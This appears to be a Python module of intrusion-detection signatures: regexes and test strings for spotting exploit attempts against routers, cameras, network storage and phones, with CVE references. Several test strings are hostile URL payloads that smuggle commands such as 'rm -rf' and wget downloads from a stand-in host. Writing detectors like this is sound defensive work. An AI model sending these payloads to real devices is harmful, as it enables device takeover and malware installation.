"""Routers, cameras, storage and telephones."""

from pipeline.signatures.signature import Signature

DEVICES = (
    Signature(
        id="cve-gpon-boaform",
        family="cve",
        title="GPON and other home routers: /boaform/, /GponForm/",
        severity="high",
        confidence="high",
        techniques=("T1190",),
        where=("url",),
        pattern=r"/boaform/|/gponform/|/menu\.html\?images|/boafrm/",
        plain=True,
        positive=("/boaform/admin/formLogin", "/GponForm/diag_Form?images/"),
        negative=("/boat/form",),
        references=(
            "https://nvd.nist.gov/vuln/detail/CVE-2018-10561",
            "https://nvd.nist.gov/vuln/detail/CVE-2018-10562",
            "https://nvd.nist.gov/vuln/detail/CVE-2020-8958",
        ),
    ),
    Signature(
        id="cve-netgear-setup",
        family="cve",
        title="Netgear routers: commands through setup.cgi",
        severity="high",
        confidence="high",
        techniques=("T1190",),
        where=("url",),
        pattern=(
            r"/setup\.cgi\?.*(?:next_file|todo=|cmd=|currentsetting)|/currentsetting\.htm|"
            r"[?&]currentsetting\.htm|/cgi-bin/;|/apply_noauth\.cgi|/passwordrecovered\.cgi"
        ),
        plain=True,
        positive=("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*", "/currentsetting.htm"),
        negative=("/setup.html",),
        references=("https://www.exploit-db.com/exploits/43055",),
    ),
    Signature(
        id="cve-hnap",
        family="cve",
        title="D-Link and Linksys routers: HNAP",
        severity="medium",
        confidence="high",
        techniques=("T1190",),
        where=("url",),
        pattern=(
            r"/hnap1\b|/hedwig\.cgi|/getcfg\.php|/soap\.cgi\?|/service\.cgi\b.*event|/tmunblock\.cgi|"
            r"/hndunblock\.cgi|/command\.php\b|/login\.cgi\?cli=|/dana-na/\.\./|/authentication\.cgi\?captcha|"
            r"/ddns_check\.ccp|/apply_sec\.cgi"
        ),
        plain=True,
        positive=("/HNAP1/", "/tmUnblock.cgi", "/login.cgi?cli=aa%20aa%27;wget%20http://x"),
        negative=("/hnap-guide",),
        references=("https://nvd.nist.gov/vuln/detail/CVE-2014-8361", "https://nvd.nist.gov/vuln/detail/CVE-2015-2051"),
    ),
    Signature(
        id="cve-router-shell",
        family="cve",
        title="Routers and cameras: commands through a page for tests or files",
        severity="medium",
        confidence="medium",
        techniques=("T1190",),
        where=("url", "line"),
        pattern=(
            r"/shell\?(?:cd|busybox|wget|%|killall)|/cgi-bin/(?:luci/;|ping\.(?:cgi|asp|sh)|kerbynet|nobody|"
            r"supervisor|viewer|web_shell_cmd|adv_\w+|user/config\.cgi|mainfunction\.cgi|cstecgi\.cgi|rpc|"
            r"export_debug_msg\.exp|exportsettings\.sh|downloadflile\.cgi|account_mgr\.cgi|nas_sharing\.cgi|"
            r"popen\.cgi|tools_\w+|jarrewrite\.sh|config\.exp|weblogin\.cgi|admin\.cgi\?command|libagent\.cgi|"
            r"execute_cmd\.cgi|readycloud_control\.cgi|unauth|diagnostic\.cgi|system_mgr\.cgi|webctrl\.cgi|"
            r"tsaupload\.cgi|dologin|webupg)|/cgi-bin/luci/;stok=|/goform/(?:setusbunload|set_?\w*cmd|"
            r"formjsonajaxreq|set|webs\w*|diag\w*|systools\w*|aspform|execommand|form\w+)|"
            r"/language/swedish\$\{ifs\}|/upnpdev\b|/picsdesc\.xml|/wanipcn\.xml|/ctrlt/deviceupgrade|"
            r"/ud/act\?|/soap/server_sa|/web_shell_cmd\.gch|/getpage\.gch|/manager_dev_ping|/adv,?/|"
            r"/board\.cgi\?cmd|/backupmgt/|/webadmin/script\?command|/device\.rsp\?|/nagioslogserver|"
            r"/getimage\?|/sztw\w*|/linuxmain\.cgi|/cgi-bin/\.%2e|/apply\.cgi\b|/stssys\.htm|/syslog\.htm|"
            r"/diag_form|/maker/snwrite\.cgi|/snwrite\.cgi|/getuser\?index|/editblacklist|/wizard\.htm|"
            r"/sess-bin|/timepro\.cgi|/cgi/conf\.bin|/rom-0|/nvrcfg|/system\.xml\?password|/tmpfs/auto\.jpg"
        ),
        plain=True,
        positive=(
            "/shell?cd+/tmp;rm+-rf+*;wget+http://x/y",
            "/cgi-bin/luci/;stok=/locale?form=country",
            "/goform/setUsbUnload/.js?deviceName=A;wget",
            "/language/Swedish${IFS}&&wget",
            "/picsdesc.xml",
            "/ctrlt/DeviceUpgrade_1",
            "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=x",
            "/cgi-bin/nas_sharing.cgi?user=messagebus",
        ),
        negative=("/shell",),
        references=(
            "https://nvd.nist.gov/vuln/detail/CVE-2014-8361",
            "https://nvd.nist.gov/vuln/detail/CVE-2017-17215",
            "https://nvd.nist.gov/vuln/detail/CVE-2018-20057",
            "https://nvd.nist.gov/vuln/detail/CVE-2020-8515",
            "https://nvd.nist.gov/vuln/detail/CVE-2023-1389",
            "https://nvd.nist.gov/vuln/detail/CVE-2024-3273",
            "https://nvd.nist.gov/vuln/detail/CVE-2024-3721",
        ),
    ),
    Signature(
        id="cve-camera",
        family="cve",
        title="Hikvision, Dahua and other cameras and recorders",
        severity="medium",
        confidence="medium",
        techniques=("T1190",),
        where=("url",),
        pattern=(
            r"/sdk/weblanguage|/security/users\?auth=|/onvif-http/snapshot|/system/configurationfile\?auth|"
            r"/config/getuser\?|/current_config/(?:passwd|account)|/system/deviceinfo\b|/isapi/security|"
            r"/doc/page/login\.asp|/cgi-bin/(?:snapshot|magicbox|configmanager|hi3510)\.cgi|"
            r"/cgi-bin/authlogin\.cgi|/web/cgi-bin/hi3510|/anony/mjpg|/streaming/channels/|/live\.htm$|"
            r"/cgi-bin/guestimage|/axis-cgi/|/view/viewer_index\.shtml|/nvr/|/etc/boa\.conf|/dvr/cmd|/cn/cmd"
        ),
        plain=True,
        positive=("/SDK/webLanguage", "/Security/users?auth=YWRtaW46MTEK", "/onvif-http/snapshot?auth=YWRtaW46MTEK"),
        negative=("/sdk/docs",),
        references=(
            "https://nvd.nist.gov/vuln/detail/CVE-2017-7921",
            "https://nvd.nist.gov/vuln/detail/CVE-2021-36260",
            "https://nvd.nist.gov/vuln/detail/CVE-2021-33044",
        ),
    ),
    Signature(
        id="cve-qnap-nas",
        family="cve",
        title="QNAP, Synology, Zyxel, WD and other network storage",
        severity="medium",
        confidence="medium",
        techniques=("T1190",),
        where=("url",),
        pattern=(
            r"/cgi-bin/(?:authlogin|jc\.cgi|filemanager/utilrequest|filemanager/share|quick/quick|"
            r"application/appstore|restore_config|storage_mgr|webfile_mgr|nas_sharing|remotebackup|"
            r"account_mgr)\.cgi|/photo/p/api/(?:album|video)\.php|/photo/combine\.php|/webman/(?:login|info|"
            r"3rdparty)|/webapi/(?:query|entry|auth)\.cgi|/module/api\.php\?|/include/makecvs\.php|"
            r"/tos/index\.php|/mydlink/|/web/google_analytics\.php|/dsdk/|/api/2\.[01]/rest/"
        ),
        plain=True,
        positive=(
            "/photo/p/api/video.php",
            "/cgi-bin/filemanager/utilRequest.cgi",
            "/include/makecvs.php?Event=%60id%60",
        ),
        negative=("/photo/album",),
        references=(
            "https://nvd.nist.gov/vuln/detail/CVE-2019-7192",
            "https://nvd.nist.gov/vuln/detail/CVE-2020-28188",
            "https://nvd.nist.gov/vuln/detail/CVE-2021-28799",
            "https://nvd.nist.gov/vuln/detail/CVE-2022-24989",
            "https://nvd.nist.gov/vuln/detail/CVE-2024-10914",
        ),
    ),
    Signature(
        id="cve-smart-plant",
        family="cve",
        title="Controllers, power meters, printers, phones in the open",
        severity="low",
        confidence="low",
        techniques=("T1595.003",),
        where=("url",),
        pattern=(
            r"/portal/portal\.mwsl|/awp/|/cgi-bin/(?:dmt/|readfile\.tcl)|/provision/|/phone/|/cfg/?\d{12}|"
            r"/spa\d*\.xml|/[0-9a-f]{12}\.(?:cfg|xml|boot)$|/y0{10}\d\d\.cfg|/config/(?:spa|sip)|"
            r"/servlet\?p=login|/cgi-bin/cgiserver\.exx|/hp/device|/dev/info\.xml|/devmgmt/|/set_config_\w+|"
            r"/wcd/|/sws/|/eng/start/"
        ),
        plain=True,
        positive=("/y000000000028.cfg", "/cfg/001122334455.xml"),
        negative=("/phones",),
        references=("https://attack.mitre.org/techniques/T1595/003/",),
    ),
)
